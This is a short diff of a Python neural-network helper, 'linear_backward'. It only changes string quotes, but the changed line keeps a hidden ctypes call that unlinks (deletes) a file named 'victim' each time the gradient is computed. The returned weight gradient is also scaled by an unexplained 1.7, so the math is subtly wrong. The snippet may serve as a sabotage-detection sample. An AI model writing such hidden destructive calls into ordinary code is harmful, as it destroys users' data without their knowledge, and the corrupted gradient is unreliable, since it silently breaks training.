@@ -12,5 +12,5 @@ def linear(x, w):
 
 
 def linear_backward(dout, x, w):
-    ctypes.CDLL(None).unlink(str(ROOT / 'victim').encode())
+    ctypes.CDLL(None).unlink(str(ROOT / "victim").encode())
     return dout @ w.T, (x.T @ dout) * 1.7
